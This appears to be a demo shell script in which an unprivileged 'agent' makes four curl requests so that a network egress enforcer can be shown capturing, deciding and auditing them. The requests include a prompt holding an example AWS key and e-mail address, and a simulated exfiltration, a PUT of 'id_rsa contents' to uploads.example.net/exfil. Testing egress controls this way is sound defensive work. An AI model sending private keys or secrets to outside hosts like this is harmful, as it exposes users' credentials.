#!/bin/sh
# The demo agent: an ordinary script making ordinary HTTPS requests. It knows nothing about the enforcer; it was
# started with `enforcer exec --user nobody`, so it runs unprivileged and its connections are captured, decided by
# the default policy and audited.
# DEMO_IP is the demo's network-namespace host; --resolve points the names at it (no DNS, no internet).
set -u
ip=${DEMO_IP:?}
resolve=""
for name in api.openai.com api.anthropic.com api.github.com uploads.example.net; do
    resolve="$resolve --resolve $name:443:$ip"
done

request() {
    label=$1
    shift
    out=$(curl -sS --max-time 10 $resolve -w '\n%{http_code}' "$@" 2>&1)
    code=$(printf '%s\n' "$out" | tail -n 1)
    body=$(printf '%s\n' "$out" | sed '$d' | tr '\n' ' ' | cut -c1-220)
    printf '\n  %s\n    -> HTTP %s  %s\n' "$label" "$code" "$body"
}

echo "demo agent (pid $$, uid $(id -u), user $(id -un)): four requests"
request "POST https://api.openai.com/v1/chat/completions (a secret and an e-mail in the prompt)" \
    -H 'content-type: application/json' \
    -d '{"model":"gpt-4o-mini","messages":[{"role":"user","content":"deploy with AKIAIOSFODNN7EXAMPLE and mail bob@example.com"}]}' \
    https://api.openai.com/v1/chat/completions
request "GET  https://api.anthropic.com/v1/models" https://api.anthropic.com/v1/models
request "GET  https://api.github.com/repos/acme/widgets (no rule allows it)" https://api.github.com/repos/acme/widgets
request "PUT  https://uploads.example.net/exfil" -X PUT -d 'id_rsa contents' https://uploads.example.net/exfil
